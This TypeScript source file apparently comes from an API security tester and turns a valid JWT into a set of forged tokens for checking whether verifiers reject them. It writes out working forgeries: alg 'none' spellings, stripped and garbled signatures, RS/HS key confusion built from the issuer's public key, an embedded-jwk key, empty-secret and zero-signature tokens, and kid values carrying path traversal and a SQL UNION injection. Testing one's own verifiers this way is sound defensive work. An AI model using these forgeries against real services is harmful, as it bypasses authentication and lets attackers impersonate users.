// In: a JWT that is valid, and the issuer's public keys. Out: the same claims under signatures that no sound verifier takes (RFC 8725; CWE-347).

import { Buffer } from "node:buffer";
import { createPublicKey, generateKeyPair, type KeyObject } from "node:crypto";
import { promisify } from "node:util";
import {
  type Claims,
  garbled,
  type HmacAlgorithm,
  isHmacAlgorithm,
  isPrivateAlgorithm,
  type Jwt,
  type PrivateAlgorithm,
  parseJwt,
  resign,
  type SigningKey,
  withSignature,
} from "./jwt.js";

/** What a verifier that accepts the token leaves out. One that never looks at a signature accepts them all. */
export type ForgeryFamily =
  /** Takes `alg: none`: CVE-2015-9235. */
  | "alg-none"
  /** Does not ask for a signature. */
  | "no-signature"
  /** Compares no signature: garbled, over another payload, or by another key. */
  | "wrong-signature"
  /** Takes a public key for an HMAC secret: CVE-2016-10555. */
  | "key-confusion"
  /** Takes the key that the token brings along: CVE-2018-0114. */
  | "embedded-key"
  /** Takes an empty secret. */
  | "blank-secret"
  /** Takes an ECDSA signature of zeros: CVE-2022-21449. */
  | "blank-signature"
  /** Lets `kid` choose a file or a row that it should not: CWE-22, CWE-89. */
  | "key-id";

export interface Forgery {
  readonly id: string;
  readonly family: ForgeryFamily;
  /** A few words. */
  readonly title: string;
  /** What is wrong with the token, as a clause; nothing else differs from the original. */
  readonly claim: string;
  readonly token: string;
}

export interface Forgeries {
  /** The control: it must be accepted just before and after. */
  readonly original: string;
  /** The other control: as long and as dotted as the original, and otherwise nothing. */
  readonly worthless: string;
  /** In the order in which they are worth a request. */
  readonly variants: readonly Forgery[];
  /** What could not be made, and why, as a clause. */
  readonly untried: readonly { readonly id: string; readonly reason: string }[];
}

/** Keys of a JWK set (RFC 7517), as they were parsed; what is no key for this token is passed over. */
type PublicKeys = readonly Claims[];

const generate = promisify(generateKeyPair);
interface KeyPair {
  readonly publicKey: KeyObject;
  readonly privateKey: KeyObject;
}

const curves: Readonly<Partial<Record<PrivateAlgorithm, string>>> = { ES256: "P-256", ES384: "P-384", ES512: "P-521", ES256K: "secp256k1" };
const macSizes: Readonly<Record<HmacAlgorithm, number>> = { HS256: 32, HS384: 48, HS512: 64 };
const maximumKeys = 3;

/**
 * Every variant keeps the payload byte for byte (but one claim that means nothing in `payload-changed`), so that an acceptance proves the one thing
 * that is wrong. Null where the token is no JWT. `random` in [0, 1) makes secrets; key pairs are new every time.
 */
export async function forge(
  token: string,
  { publicKeys, random }: { readonly publicKeys: PublicKeys; readonly random: () => number },
): Promise<Forgeries | null> {
  const jwt = parseJwt(token);
  if (jwt === null) return null;
  const own = await ownKey(jwt, random);
  const keys = isPrivateAlgorithm(jwt.header.alg) ? fitting(publicKeys, jwt) : [];

  const made: Forgery[] = [
    ...unsigned(jwt),
    ...wrong(jwt, own),
    ...confused(jwt, keys),
    ...embedded(jwt, own),
    ...blank(jwt),
    ...byKeyId(jwt),
  ];
  const seen = new Set([token]);
  const variants = made.filter((forgery) => !seen.has(forgery.token) && seen.add(forgery.token));

  const untried = ["jku", "x5u"].map((id) => ({ id, reason: "it takes a key at an address that the API can reach" }));
  untried.push({ id: "x5c", reason: "it takes a certificate, and none is made" });
  if (isPrivateAlgorithm(jwt.header.alg) && keys.length === 0)
    untried.push({ id: "key-confusion", reason: "no public key of the issuer is known" });
  if (own === null) untried.push({ id: "other-key", reason: "the token's algorithm is none that is known here" });
  return { original: token, worthless: worthless(jwt, random), variants, untried };
}

function* unsigned(jwt: Jwt): Iterable<Forgery> {
  for (const alg of ["none", "None", "NONE", "nOnE"]) {
    const token = resign(jwt, {}, { kind: "none", alg });
    const named = { family: "alg-none", title: `alg ${alg}` } as const;
    yield { ...named, id: `alg-${spelt(alg)}`, claim: `its header says "alg": "${alg}", and it has no signature`, token };
    yield {
      ...named,
      id: `alg-${spelt(alg)}-signature-kept`,
      claim: `its header says "alg": "${alg}", under the signature of another header`,
      token: `${token}${jwt.parts[2]}`,
    };
  }
  const named = { family: "no-signature", title: "signature left out" } as const;
  yield { ...named, id: "signature-stripped", claim: "its signature is left out", token: `${jwt.signingInput}.` };
  yield {
    ...named,
    id: "signature-stripped-with-its-dot",
    claim: "its signature is left out, with the dot before it",
    token: jwt.signingInput,
  };
}

/** An id tells spellings apart without capital letters. */
function spelt(alg: string): string {
  return { none: "none", None: "none-capital", NONE: "none-capitals", nOnE: "none-mixed" }[alg] ?? alg;
}

function* wrong(jwt: Jwt, own: OwnKey | null): Iterable<Forgery> {
  const family = "wrong-signature";
  const token = withSignature(jwt, garbled(jwt.signature));
  yield { id: "signature-garbled", family, title: "signature garbled", claim: "one byte of its signature is another", token };
  yield {
    id: "payload-changed",
    family,
    title: "payload changed",
    claim: "its payload has one more claim than what was signed",
    token: `${jwt.parts[0]}.${withOneMoreClaim(jwt)}.${jwt.parts[2]}`,
  };
  if (own === null) return;
  yield { id: "other-key", family, title: "another key", claim: "it is signed with another key", token: resign(jwt, {}, own.signing) };
}

/** Written into the text: to parse and print the payload again would change numbers above 2^53 and names that are there twice. */
function withOneMoreClaim(jwt: Jwt): string {
  const text = Buffer.from(jwt.parts[1], "base64url").toString("utf8");
  const rest = text.slice(text.indexOf("{") + 1);
  return Buffer.from(`{"spillproof":true${rest.trimStart().startsWith("}") ? "" : ","}${rest}`).toString("base64url");
}

/** A verifier that reads `alg` from the token and has a public key in hand computes an HMAC with it, in the form in which it holds the key. */
function* confused(jwt: Jwt, keys: readonly Claims[]): Iterable<Forgery> {
  for (const [index, jwk] of keys.entries()) {
    for (const [form, words, secret] of formsOf(jwk)) {
      yield {
        id: `key-confusion-${form}${index === 0 ? "" : `-${index + 1}`}`,
        family: "key-confusion",
        title: "a public key as HMAC secret",
        claim: `its header says "alg": "HS256", and the secret is the issuer's public key as ${words}`,
        token: resign(jwt, {}, { kind: "hmac", alg: "HS256", secret }),
      };
    }
  }
}

function* formsOf(jwk: Claims): Iterable<readonly [form: string, words: string, secret: Uint8Array]> {
  const key = publicKey(jwk);
  if (key === null) return;
  yield* pemForms("spki", "PEM (SPKI)", key.export({ type: "spki", format: "pem" }));
  if (key.asymmetricKeyType === "rsa") yield* pemForms("pkcs1", "PEM (PKCS #1)", key.export({ type: "pkcs1", format: "pem" }));
  const [certificate] = Array.isArray(jwk.x5c) ? jwk.x5c : [];
  if (typeof certificate === "string" && /^[A-Za-z0-9+/=]+$/.test(certificate)) {
    const lines = certificate.match(/.{1,64}/g) ?? [];
    yield* pemForms("certificate", "a certificate (PEM)", `-----BEGIN CERTIFICATE-----\n${lines.join("\n")}\n-----END CERTIFICATE-----\n`);
  }
  yield ["spki-der", "DER (SPKI)", key.export({ type: "spki", format: "der" })];
  if (key.asymmetricKeyType === "rsa") yield ["pkcs1-der", "DER (PKCS #1)", key.export({ type: "pkcs1", format: "der" })];
  yield ["jwk", "JSON (JWK)", Buffer.from(JSON.stringify(jwk))];
  const { n, x, y } = key.export({ format: "jwk" });
  if (n !== undefined) {
    yield ["modulus", "the bytes of its modulus", Buffer.from(n, "base64url")];
    yield ["modulus-text", "its modulus in base64url", Buffer.from(n)];
  } else if (x !== undefined) {
    const point = y === undefined ? [] : [Buffer.of(4)];
    yield ["point", "the bytes of its point", Buffer.concat([...point, Buffer.from(x, "base64url"), Buffer.from(y ?? "", "base64url")])];
  }
}

function* pemForms(form: string, words: string, pem: string | Buffer): Iterable<readonly [string, string, Uint8Array]> {
  const text = String(pem).trimEnd();
  yield [`${form}-pem`, words, Buffer.from(`${text}\n`)];
  yield [`${form}-pem-no-newline`, `${words} without the newline at its end`, Buffer.from(text)];
}

/** The key that the token names, else those of its kind. */
function fitting(keys: PublicKeys, jwt: Jwt): readonly Claims[] {
  const kind = /^[RP]S/.test(jwt.header.alg) ? "RSA" : jwt.header.alg.startsWith("ES") ? "EC" : "OKP";
  const usable = keys.filter((key) => key.kty === kind && key.use !== "enc" && publicKey(key) !== null);
  const named = usable.filter((key) => key.kid !== undefined && key.kid === jwt.header.kid);
  return (named.length > 0 ? named : usable).slice(0, maximumKeys);
}

function publicKey(jwk: Claims): KeyObject | null {
  try {
    return createPublicKey({ key: jwk as Record<string, string>, format: "jwk" });
  } catch {
    return null;
  }
}

function* embedded(jwt: Jwt, own: OwnKey | null): Iterable<Forgery> {
  if (own === null) return;
  // A verifier that looks keys up by `kid` finds the issuer's; one that is given a key by the token finds ours under the same name.
  const jwk = typeof jwt.header.kid === "string" ? { ...own.jwk, kid: jwt.header.kid } : own.jwk;
  yield {
    id: "embedded-jwk",
    family: "embedded-key",
    title: "a key in the header",
    claim: "it is signed with a key that its own header brings along (jwk)",
    token: resign(jwt, { jwk }, own.signing),
  };
}

function* blank(jwt: Jwt): Iterable<Forgery> {
  const alg = isHmacAlgorithm(jwt.header.alg) ? jwt.header.alg : "HS256";
  yield {
    id: "blank-secret",
    family: "blank-secret",
    title: "an empty secret",
    // HMAC pads a key with zeros (RFC 2104): secrets of one or more zero bytes give the very same MAC.
    claim: `it is signed (${alg}) with an empty secret`,
    token: resign(jwt, {}, { kind: "hmac", alg, secret: new Uint8Array() }),
  };
  if (jwt.header.alg in curves) {
    const token = withSignature(jwt, new Uint8Array(jwt.signature.length));
    yield {
      id: "blank-signature",
      family: "blank-signature",
      title: "a signature of zeros",
      claim: "its signature is nothing but zeros",
      token,
    };
  }
}

function* byKeyId(jwt: Jwt): Iterable<Forgery> {
  const alg = isHmacAlgorithm(jwt.header.alg) ? jwt.header.alg : "HS256";
  const signed = (kid: string, secret: string) => resign(jwt, { kid }, { kind: "hmac", alg, secret: Buffer.from(secret) });
  yield {
    id: "key-id-path",
    family: "key-id",
    title: "kid leads to an empty file",
    claim: "its kid leads to /dev/null, and the secret is what that holds: nothing",
    token: signed("../../../../../../../../../../dev/null", ""),
  };
  yield {
    id: "key-id-sql",
    family: "key-id",
    title: "kid brings its own row",
    claim: "its kid is SQL that selects a secret of our own, and it is signed with that",
    token: signed("spillproof' UNION SELECT 'spillproof", "spillproof"),
  };
}

interface OwnKey {
  readonly signing: SigningKey;
  readonly jwk: Claims;
}

/** A key of the same algorithm as the token's, which the API has never seen; null for an algorithm that is not known here. */
async function ownKey(jwt: Jwt, random: () => number): Promise<OwnKey | null> {
  const { alg } = jwt.header;
  if (isHmacAlgorithm(alg)) {
    const secret = Buffer.from(Array.from({ length: macSizes[alg] }, () => Math.floor(random() * 256)));
    return { signing: { kind: "hmac", alg, secret }, jwk: { kty: "oct", k: secret.toString("base64url"), alg } };
  }
  if (!isPrivateAlgorithm(alg)) return null;
  const { publicKey, privateKey } = await keyPair(alg, jwt.signature.length);
  return { signing: { kind: "private", alg, key: privateKey }, jwk: { ...publicKey.export({ format: "jwk" }), alg } };
}

function keyPair(alg: PrivateAlgorithm, signatureLength: number): Promise<KeyPair> {
  const namedCurve = curves[alg];
  if (namedCurve !== undefined) return generate("ec", { namedCurve });
  if (!alg.startsWith("Ed")) return generate("rsa", { modulusLength: 2048 });
  // EdDSA does not tell its curve; an Ed448 signature has 114 bytes (RFC 8032).
  return alg === "Ed448" || (alg === "EdDSA" && signatureLength === 114) ? generate("ed448") : generate("ed25519");
}

function worthless(jwt: Jwt, random: () => number): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  const noise = (length: number) => Array.from({ length }, () => alphabet[Math.floor(random() * 64)]).join("");
  return jwt.parts.map((part) => noise(part.length)).join(".");
}
